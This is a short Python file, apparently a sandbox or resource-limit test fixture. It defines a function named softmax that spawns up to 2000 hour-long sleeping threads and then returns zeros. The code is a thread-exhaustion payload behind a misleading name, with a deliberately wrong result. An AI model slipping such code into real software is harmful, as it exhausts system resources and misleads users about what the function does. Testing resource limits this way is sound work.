# Two thousand threads.
# needs: namespaces
import threading
import time


def softmax(x):
    for _ in range(2000):
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            break
    return x * 0
